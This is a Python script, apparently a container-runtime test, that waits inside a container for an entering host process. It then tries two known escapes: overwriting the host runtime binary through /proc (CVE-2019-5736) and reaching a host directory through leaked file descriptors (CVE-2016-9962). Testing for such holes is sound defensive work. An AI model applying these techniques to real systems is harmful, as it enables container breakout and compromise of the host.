"""Waits in a container for a process that enters it, and attacks that: attacker.py file|folder"""
import os, sys, time

own = {os.readlink("/proc/self/exe"), "/bin/busybox"}
end = time.time() + 150


def entered():
    """Yields processes of another program, again and again."""
    print("waits", flush=True)
    while time.time() < end:
        for number in filter(str.isdigit, os.listdir("/proc")):
            try:
                if os.readlink(f"/proc/{number}/exe") not in own:
                    yield number
            except OSError:
                continue


def overwrite():
    # CVE-2019-5736: the file can be opened for writing as soon as nothing runs it.
    for number in entered():
        try:
            held = os.open(f"/proc/{number}/exe", os.O_PATH)
        except OSError:
            continue
        error = None
        for _ in range(6000):
            try:
                os.write(os.open(f"/proc/self/fd/{held}", os.O_WRONLY), b"overwritten")
                return "found overwritten"
            except OSError as caught:
                error = caught
                time.sleep(0.001)
        return f"found held: {os.strerror(error.errno)}"
    return "not found"


def reach():
    # CVE-2016-9962: a folder of the host that the process has open.
    own.clear()
    mine = {str(os.getpid()), "1"}
    seen = set()
    for number in entered():
        if number in mine:
            continue
        seen.add(number)
        try:
            for one in os.listdir(f"/proc/{number}/fd"):
                if os.path.exists(f"/proc/{number}/fd/{one}/test/run"):
                    return "reached the host"
        except OSError:
            continue
    return "reached nothing"


print(overwrite() if sys.argv[1] == "file" else reach(), flush=True)
